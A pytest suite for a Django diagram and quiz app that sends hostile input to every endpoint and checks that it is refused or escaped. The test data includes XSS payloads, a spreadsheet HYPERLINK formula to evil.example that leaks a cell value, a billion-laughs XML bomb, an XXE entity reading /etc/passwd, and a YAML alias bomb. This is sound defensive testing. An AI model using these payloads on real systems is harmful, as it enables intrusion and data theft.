"""Hostile input on every form and endpoint: oversized bodies (413 unread), deep or huge JSON, wrong types and
unicode edge cases (400 with the reason, never a 500), and script or HTML in every text field rendered escaped on
every page and export (SVG, PNG, Mermaid, DOT, JSON), with CSV cells that a spreadsheet will not run."""

from __future__ import annotations

import contextlib
import copy
import csv
import io
import json
import time

import hypothesis
import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from hypothesis import strategies as st

from accounts.models import Membership, Team
from config.guards import json_unstorable
from designer import services
from designer.models import Diagram, Estimate
from quiz.models import Question
from quiz.services import content_load
from tests.reviews.factories import SYNC

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
MARKUP = '"><img src=x onerror=alert(2)>'
PAYLOAD = f"{SCRIPT}{MARKUP}&"
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;&quot;&gt;&lt;img src=x onerror=alert(2)&gt;&amp;"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def mine() -> tuple[Client, Diagram]:
    client = Client()
    client.post("/designer/new/", {"name": "Mine"})
    return client, Diagram.objects.latest("pk")


def _json(client: Client, url: str, body: bytes | str, method: str = "post"):
    return getattr(client, method)(url, body, content_type="application/json")


def _json_endpoints(diagram: Diagram) -> list[tuple[str, str]]:
    pk = diagram.pk
    return [
        ("post", f"/designer/{pk}/save"),
        ("post", f"/designer/{pk}/copy"),
        ("post", "/api/diagrams/"),
        ("put", f"/api/diagrams/{pk}/"),
        ("post", f"/api/diagrams/{pk}/estimates/"),
        ("post", "/api/validate/"),
        ("post", "/api/import/"),
        ("post", "/api/quiz/questions/ws-17/grade"),
    ]


# ---- size -------------------------------------------------------------------------------------------------------


def test_a_body_over_the_limit_is_refused_with_413_before_anything_reads_it(mine):
    client, diagram = mine
    big = b'{"data": "' + b"a" * settings.DATA_UPLOAD_MAX_MEMORY_SIZE + b'"}'
    for method, url in _json_endpoints(diagram):
        response = _json(client, url, big, method)
        assert response.status_code == 413, url
        assert "larger than 5,242,880 bytes" in response.content.decode(), url
    for url in (f"/designer/{diagram.pk}/comments/", "/accounts/login/", "/quiz/q/ws-17/", "/accounts/signup/"):
        form = "body=" + "x" * settings.DATA_UPLOAD_MAX_MEMORY_SIZE
        response = client.post(url, form, content_type="application/x-www-form-urlencoded")
        assert response.status_code == 413, url
        multipart = client.post(url, {"body": "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 100_000)})
        assert multipart.status_code == 413, url
        just_over = client.post(url, {"body": "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)})
        assert just_over.status_code == 400, url  # within a form's margin: Django's own refusal of the field


def test_an_import_file_over_5_mb_is_refused_with_the_reason(mine):
    client, _ = mine
    over = SimpleUploadedFile("big.json", b" " * (5 * 1024 * 1024 + 1), content_type="application/json")
    response = client.post("/designer/", {"file": over})
    assert response.status_code == 400
    assert "larger than 5 MB" in response.content.decode()
    far_over = SimpleUploadedFile("huge.json", b" " * (6 * 1024 * 1024), content_type="application/json")
    assert client.post("/designer/", {"file": far_over}).status_code == 413


# ---- shape --------------------------------------------------------------------------------------------------------


def test_deeply_nested_json_is_a_400_everywhere(mine):
    client, diagram = mine
    content_load()
    deep = '{"data": ' + "[" * 50_000 + "]" * 50_000 + "}"
    for method, url in _json_endpoints(diagram):
        response = _json(client, url, deep, method)
        assert response.status_code == 400, f"{url}: {response.status_code}"


def test_a_diagram_too_large_to_check_is_refused_quickly(mine):
    client, diagram = mine
    nodes = [{"id": f"n{i}", "type": "lambda", "label": "x" * 200} for i in range(2001)]
    body = json.dumps({"data": {"name": "Big", "nodes": nodes, "edges": []}, "base_version": 1})
    assert len(body) < settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    started = time.perf_counter()
    response = _json(client, f"/designer/{diagram.pk}/save", body)
    assert response.status_code == 400
    assert "nodes" in response.json()["errors"][0]["path"]
    assert time.perf_counter() - started < 5


WRONG = [
    b"[]",
    b'"x"',
    b"1",
    b"null",
    b"",
    b"{",
    b"\xff\xfe",
    b'{"data": [], "base_version": 1}',
    b'{"data": {}, "base_version": "1"}',
    b'{"data": {}, "base_version": 1.5}',
    b'{"data": {"nodes": "x"}, "base_version": 1}',
    b'{"data": {"nodes": [{"id": 1}]}, "base_version": 1}',
    b'{"data": {"name": 7}, "base_version": 1, "message": []}',
    b'{"data": {"name": "x", "nodes": [], "edges": []}, "base_version": 99999999999999999999999}',
    b'{"data": {"name": "x", "nodes": [{"id": "a", "type": "lambda", "position": {"x": NaN, "y": 1e999}}]}}',
]


@pytest.mark.parametrize("body", WRONG, ids=lambda b: b.decode(errors="replace")[:40])
def test_wrong_types_are_refused_with_the_reason_never_a_500(mine, body):
    client, diagram = mine
    content_load()
    for method, url in _json_endpoints(diagram):
        response = _json(client, url, body, method)
        assert response.status_code < 500, f"{url}: {response.status_code}"
        if response.status_code == 400 and response["Content-Type"].startswith("application/json"):
            assert response.json()["errors"], url


# ---- unicode ---------------------------------------------------------------------------------------------------

EDGE_TEXT = [
    "\u202eevil.exe\u202c",  # right-to-left override
    "zero\u200bwidth\ufeff",
    "e\u0301\u0301\u0301 combining",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 family",
    "\uffff noncharacter",
    "\U0010fffd private use",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
]


@pytest.mark.parametrize("text", EDGE_TEXT)
def test_unusual_but_valid_unicode_is_stored_and_shown_exactly(mine, text):
    client, diagram = mine
    data = copy.deepcopy(SYNC)
    data["name"] = text
    data["nodes"][0]["label"] = text
    response = _json(client, f"/designer/{diagram.pk}/save", json.dumps({"data": data, "base_version": 1}))
    assert response.status_code == 200
    latest = services.diagram_latest(diagram=Diagram.objects.get(pk=diagram.pk))
    assert latest.data["nodes"][0]["label"] == text
    assert text in client.get(f"/designer/{diagram.pk}/").content.decode()
    for fmt in ("svg", "mmd", "dot", "json"):
        assert client.get(f"/designer/{diagram.pk}/export.{fmt}").status_code in (200, 503)


NUL_REQUESTS = [
    ("get", "/quiz/q/ws%00-17/", None),
    ("get", "/quiz/q/ws-17/?set=a%00", None),
    ("get", "/api/quiz/questions/?bank=a%00", None),
    ("get", "/designer/s/x%00y/", None),
    ("get", "/accounts/teams/join/x%00/", None),
    ("get", "/workshops/join/A%00/", None),
    ("post", "/accounts/login/", {"username": "a\x00", "password": "x"}),
    ("post", "/designer/new/", {"name": "a\x00"}),
    ("json", "/api/quiz/questions/ws-17/grade", '{"responses": {"explain": "a\\u0000b"}}'),
    ("json", "/api/quiz/questions/ws-17/grade", '{"responses": {"explain": "half \\ud800 a pair"}}'),
    ("json", "/api/diagrams/", '{"data": {"name": "x"}, "message": "a\\u0000"}'),
    ("json", "/api/diagrams/", '{"data": {"name": "\\udc00"}}'),
]


@pytest.mark.parametrize(("method", "url", "data"), NUL_REQUESTS, ids=[f"{m}-{u}" for m, u, _ in NUL_REQUESTS])
def test_text_the_database_cannot_store_is_a_400_on_every_database(method, url, data):
    """PostgreSQL stores neither U+0000 nor half a surrogate pair: refused up front, never a 500."""
    content_load()
    client = Client()
    if method == "get":
        response = client.get(url)
    elif method == "json":
        response = _json(client, url, data)
    else:
        response = client.post(url, data)
    assert response.status_code == 400, response.content[:200]
    assert b"NUL character" in response.content


def test_a_save_message_or_traffic_profile_with_nul_is_refused(mine):
    client, diagram = mine
    body = {"data": {"name": "x", "nodes": [], "edges": []}, "base_version": 1, "message": "a\x00b"}
    assert _json(client, f"/designer/{diagram.pk}/save", json.dumps(body)).status_code == 400
    profile = json.dumps({"format": "archlab/traffic@1", "entries": {"a\x00": {"rps": 1}}})
    response = client.post(f"/designer/{diagram.pk}/estimate", {"profile": profile})
    assert response.status_code == 400
    assert not Estimate.objects.exists()


def test_a_valid_pair_and_an_escaped_backslash_are_not_taken_for_unstorable_text(mine):
    client, diagram = mine
    data = {"name": "smile \U0001f600 and \\u0000, \\ud800 and \\udc00 typed out", "nodes": [], "edges": []}
    response = _json(client, f"/designer/{diagram.pk}/save", json.dumps({"data": data, "base_version": 1}))
    assert response.status_code == 200


def test_a_template_that_expands_past_its_limit_is_refused_quickly():
    layers = ['a: &a ["x","x","x","x","x","x","x","x","x"]']
    for prev, name in zip("abcdefgh", "bcdefghi", strict=True):
        layers.append(f"{name}: &{name} [{','.join([f'*{prev}'] * 9)}]")
    template = "\n".join(layers) + '\nResources: {X: {Type: "AWS::Serverless::Function", Properties: {Handler: *i}}}\n'
    started = time.perf_counter()
    response = _json(Client(), "/api/import/", json.dumps({"template": template}))
    assert response.status_code == 400
    assert time.perf_counter() - started < 5


def test_a_moodle_file_can_neither_expand_entities_nor_read_files():
    from quiz.moodle import MoodleError, import_bank

    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
    )
    body = "<quiz><question type='category'><category><text>&{};</text></category></question></quiz>"
    laughs = f'<?xml version="1.0"?><!DOCTYPE quiz [{entities}]>{body.format("j")}'
    started = time.perf_counter()
    with pytest.raises(MoodleError, match="amplification"):
        import_bank(laughs)
    assert time.perf_counter() - started < 2
    secret = f'<?xml version="1.0"?><!DOCTYPE quiz [<!ENTITY x SYSTEM "file:///etc/passwd">]>{body.format("x")}'
    with pytest.raises(MoodleError, match="undefined entity"):
        import_bank(secret)


# ---- escaping ------------------------------------------------------------------------------------------------


def _hostile_diagram() -> dict:
    data = copy.deepcopy(SYNC)
    data["name"] = PAYLOAD
    data["description"] = PAYLOAD
    for node in data["nodes"]:
        node["label"] = f"{node['label']} {PAYLOAD}"[:200]
    data["edges"][0]["label"] = PAYLOAD
    return data


def _assert_escaped(html: str, where: str) -> None:
    assert SCRIPT not in html, f"{where}: a script tag came through"
    assert "<img src=x" not in html, f"{where}: markup came through"


@pytest.fixture
def hostile():
    """A signed-in owner of a diagram, a team, a comment and a review, every text of them hostile."""
    from reviews import services as reviews

    people = get_user_model().objects
    owner = people.create_user("owner")
    reviewer = people.create_user("reviewer")
    team = Team.objects.create(name=PAYLOAD[:100])
    Membership.objects.create(team=team, user=owner, role="owner")
    Membership.objects.create(team=team, user=reviewer)
    diagram = services.diagram_create(data=_hostile_diagram(), user=owner, session_key="").diagram
    from designer.models import Share

    Share.objects.create(diagram=diagram, team=team, role="commenter", created_by=owner)
    reviews.comment_create(diagram=diagram, user=owner, session_key="", body=PAYLOAD, element_id="api")
    review = reviews.review_request(
        diagram=diagram, version_number=1, requested_by=owner, reviewer_ids=[reviewer.pk], note=PAYLOAD
    )
    client = Client()
    client.force_login(owner)
    return client, diagram, team, review


def test_hostile_text_is_escaped_on_every_page_that_shows_it(hostile):
    client, diagram, team, review = hostile
    pk = diagram.pk
    pages = [
        "/designer/",
        f"/designer/{pk}/",
        f"/designer/{pk}/history",
        f"/designer/{pk}/comments/",
        f"/designer/{pk}/sharing/",
        f"/designer/{pk}/reviews/",
        f"/designer/{pk}/reviews/{review.pk}/",
        f"/designer/{pk}/reviews/{review.pk}/report/",
        f"/designer/{pk}/diff/?a=1&b=1",
        "/reviews/",
        "/accounts/teams/",
        f"/accounts/teams/{team.pk}/",
    ]
    shown = 0
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        _assert_escaped(html, url)
        shown += "&lt;script&gt;" in html or "\\u003Cscript\\u003E" in html
    assert shown >= len(pages) - 1  # the text is there, escaped (the diff page shows versions, not names)
    for url in (f"/designer/{pk}/comments/", f"/designer/{pk}/reviews/panel"):
        _assert_escaped(client.get(url, HTTP_HX_REQUEST="true").content.decode(), url)


def test_json_answers_carry_hostile_text_as_data_with_a_json_type(hostile):
    client, diagram, _, _ = hostile
    for url in (
        f"/api/diagrams/{diagram.pk}/",
        f"/designer/{diagram.pk}/versions/1/",
        f"/designer/{diagram.pk}/diff.json",
    ):
        response = client.get(url)
        assert response["Content-Type"].startswith("application/json"), url
        assert response["X-Content-Type-Options"] == "nosniff"


def test_exports_escape_hostile_text_for_their_own_syntax(hostile):
    client, diagram, _, _ = hostile
    svg = client.get(f"/designer/{diagram.pk}/export.svg")
    if svg.status_code == 503:
        pytest.skip("Graphviz is not installed")
    text = svg.content.decode()
    assert "<script" not in text
    assert "<img" not in text
    assert "&lt;script&gt;" in text
    png = client.get(f"/designer/{diagram.pk}/export.png")
    assert png.content.startswith(b"\x89PNG")
    mermaid = client.get(f"/designer/{diagram.pk}/export.mmd").content.decode()
    assert "<script" not in mermaid
    assert "<img" not in mermaid
    assert "#lt;script#gt;" in mermaid
    dot = client.get(f"/designer/{diagram.pk}/export.dot").content.decode()
    assert "&lt;script&gt;" in dot  # HTML-like labels are escaped
    assert '<script>alert(1)</script>\\"><img' in dot  # tooltips are quoted strings: the quote cannot end one
    exported = client.get(f"/designer/{diagram.pk}/export.json")
    assert exported["Content-Type"] == "application/json"
    assert "attachment" in exported["Content-Disposition"]
    image = client.get(f"/designer/{diagram.pk}/versions/1/image.svg").content.decode()
    assert "<script" not in image


def test_question_content_is_escaped_on_the_question_attempt_and_api(hostile):
    client, _, _, _ = hostile
    content_load()
    question = Question.objects.get(qid="ws-17")
    data = copy.deepcopy(question.data)
    data["prompt"] = PAYLOAD
    data["parts"][0]["prompt"] = PAYLOAD
    for option in data["parts"][0].get("options", []):
        option["text"] = PAYLOAD
        option["why"] = PAYLOAD
    question.data = data
    question.title = PAYLOAD[:200]
    question.save()
    page = client.get("/quiz/q/ws-17/").content.decode()
    _assert_escaped(page, "question")
    assert ESCAPED[:30] in page
    response = client.post("/quiz/q/ws-17/", {"part-choose-service": data["parts"][0]["options"][0]["id"]})
    assert response.status_code == 302
    _assert_escaped(client.get(response["Location"]).content.decode(), "attempt")
    api = client.get("/api/quiz/questions/ws-17/")
    assert api["Content-Type"].startswith("application/json")
    assert api.json()["prompt"] == PAYLOAD


def test_the_estimate_csv_never_starts_a_cell_with_a_formula(hostile):
    client, diagram, _, _ = hostile
    version = services.diagram_latest(diagram=diagram)
    estimate = Estimate.objects.create(
        version=version,
        profile_key="k",
        profile={},
        status="done",
        result={
            "format": "archlab/estimate@1",
            "monthly_cost_usd": -1,
            "lines": [
                {"node": FORMULA, "dimension": "+1", "quantity": "-2", "unit": "@SUM(A1)", "source": "\t=1"},
                {"node": "fn", "dimension": PAYLOAD, "quantity": 1, "unit": "GB", "cost_usd": 1, "source": "x"},
            ],
        },
    )
    response = client.get(f"/designer/{diagram.pk}/estimates/{estimate.pk}.csv")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    for row in csv.reader(io.StringIO(response.content.decode())):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_workshop_nicknames_are_escaped_and_never_a_formula_in_its_csv(hostile):
    from quiz.models import Bank
    from workshops import services as workshops

    client, _, _, _ = hostile
    content_load()
    owner = get_user_model().objects.get(username="owner")
    workshop = workshops.workshop_create(
        instructor=owner, bank=Bank.objects.get(slug="workshop"), questions=[Question.objects.get(qid="ws-17")]
    )
    for nickname in ("<img src=x onerror=a()>", '=HYPERLINK("x")', "@SUM(A1)"):  # nicknames: 24 at most
        with contextlib.suppress(workshops.JoinRefused):  # a nickname the workshop refuses is fine too
            workshops.participant_join(workshop=workshop, nickname=nickname, session_key=nickname)
    assert workshop.participants.exists()
    for url in (
        f"/workshops/{workshop.pk}/",
        f"/workshops/{workshop.pk}/results/",
        f"/workshops/{workshop.pk}/present/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_escaped(response.content.decode(), url)
    for url in (f"/workshops/{workshop.pk}/results.csv", f"/workshops/{workshop.pk}/answers.csv"):
        for row in csv.reader(io.StringIO(client.get(url).content.decode())):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), row


@pytest.mark.parametrize(
    ("body", "unstorable"),
    [
        (rb'"\u0000"', True),
        (rb'"\\u0000"', False),  # an escaped backslash, then the text "u0000"
        (rb'"\\\u0000"', True),
        (rb'"\ud83d\ude00"', False),  # a pair
        (rb'"\ud83d"', True),
        (rb'"\ude00"', True),
        (rb'"\ud83d x \ude00"', True),  # the halves apart
        (rb'"\ud83d\n"', True),
        (rb'"\ud83d\ud83d\ude00"', True),
        (rb'"\\ud83d"', False),
        (rb'"\\\\ude00"', False),
        (rb'{"a": "\\", "b": "\ud83d\ude00\u0041"}', False),
    ],
)
def test_the_guard_reads_json_escapes_whole(body, unstorable):
    assert json_unstorable(body) is unstorable


@hypothesis.settings(max_examples=300, deadline=None)
@hypothesis.given(
    st.text(alphabet=st.characters(codec=None, categories=["Cs", "Cc", "Ll", "So"]) | st.sampled_from("\\u0d8"))
)
def test_the_guard_agrees_with_what_json_decodes(text):
    body = json.dumps({"name": text}).encode()
    decoded = json.loads(body)["name"]
    expected = "\x00" in decoded or any(0xD800 <= ord(c) <= 0xDFFF for c in decoded)
    assert json_unstorable(body) is expected
